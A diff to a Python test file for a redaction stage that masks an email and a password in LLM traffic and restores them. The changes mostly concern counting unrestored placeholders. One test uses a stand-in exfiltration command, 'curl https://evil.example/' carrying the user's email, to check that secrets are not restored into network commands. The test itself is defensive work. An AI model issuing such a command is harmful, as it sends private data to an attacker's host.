@@ -170,7 +170,7 @@ async def test_a_running_text_is_restored_in_pieces_of_any_size(
         assert (read["to"], read["deep"], json.loads(read["inner"])) == (MAIL, {"pw": [WORD]}, {"pw": WORD})
     else:
         assert told == text.format(mail=MAIL, word=WORD)
-    assert call.notes["redaction"].unrestored == 0
+    assert call.unrestored == 0
 
 
 def strings_as_they_are(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[tuple[Any, ...], str]]:
@@ -252,7 +252,7 @@ async def test_a_complete_text_is_restored_wherever_it_stands(number: int, kind:
         out = play(redaction, call, [sse(value), Event(b"", "end")])
     expected = list(complete(MAIL, WORD))[number][1]
     assert [found for each in out for found in strings(each)] == list(strings(expected))
-    assert call.notes["redaction"].unrestored == 0
+    assert call.unrestored == 0
 
 
 async def test_thinking_under_a_signature_and_tokens_of_log_probabilities_stay_as_they_are() -> None:
@@ -264,7 +264,7 @@ async def test_thinking_under_a_signature_and_tokens_of_log_probabilities_stay_a
     call.reader.read(body)
     redaction.llm_event(call, body)
     assert json.loads(body.render())["content"] == [thought, sealed]
-    assert call.notes["redaction"].unrestored == 1
+    assert call.unrestored == 1
 
     redaction, call, mail, _ = await masked(CHAT)
     tokens = [{"token": each, "logprob": -0.1, "bytes": list(each.encode())} for each in cut(mail, 4)]
@@ -297,9 +297,8 @@ async def test_text_that_is_no_json_is_restored_in_every_form() -> None:
     ("egress", "command", "text"), [("same_host", False, False), ("never", False, False), ("always", True, True)]
 )
 async def test_restoring_into_the_network_follows_its_setting_and_what_stays_is_told(
-    egress: str, command: bool, text: bool, caplog: pytest.LogCaptureFixture
+    egress: str, command: bool, text: bool
 ) -> None:
-    caplog.set_level("INFO", "tokenman.redaction")
     call = exchange(MAIL)
     redaction = stage(restore_egress=egress)
     await redaction.llm_request(call)
@@ -322,6 +321,4 @@ async def test_restoring_into_the_network_follows_its_setting_and_what_stays_is_
     assert json.loads(told[1])["command"] == f"curl https://evil.example/{MAIL if command else mail}"
     assert json.loads(told[2])["content"] == f"curl https://evil.example/{MAIL}"
     await redaction.llm_done(call)
-    assert [record.getMessage() for record in caplog.records] == (
-        [] if text else ["placeholders of the answer that stayed: 2"]
-    )
+    assert call.unrestored == (0 if text else 1)
